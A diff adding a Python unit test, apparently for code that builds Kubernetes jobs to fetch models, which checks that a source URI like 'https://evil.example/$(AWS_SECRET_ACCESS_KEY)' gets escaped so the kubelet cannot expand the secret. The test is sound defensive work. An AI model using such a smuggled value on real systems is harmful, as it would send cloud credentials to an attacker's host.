@@ -35,6 +35,13 @@ def test_it_fills_a_folder_beside_the_model_and_knows_what_is_left():
     assert container["env"] == [{"name": "STORAGE_MAX_BYTES", "value": "7"}]
 
 
+def test_a_source_cannot_ask_for_the_credentials_beside_it():
+    """The kubelet turns $$ into $, and knows no variable then."""
+    evil = LocalModelInfo(model_name="iris", source_model_uri="https://evil.example/$(AWS_SECRET_ACCESS_KEY)")
+    (container,) = job_on("a", evil)["spec"]["template"]["spec"]["containers"]
+    assert container["args"][0] == "https://evil.example/$$(AWS_SECRET_ACCESS_KEY)"
+
+
 def test_names_and_labels_fit_whatever_the_node_is_called():
     job = job_on(f"ip-10-0-0-1.{'x' * 200}.internal")
     assert len(job["metadata"]["name"]) <= 63
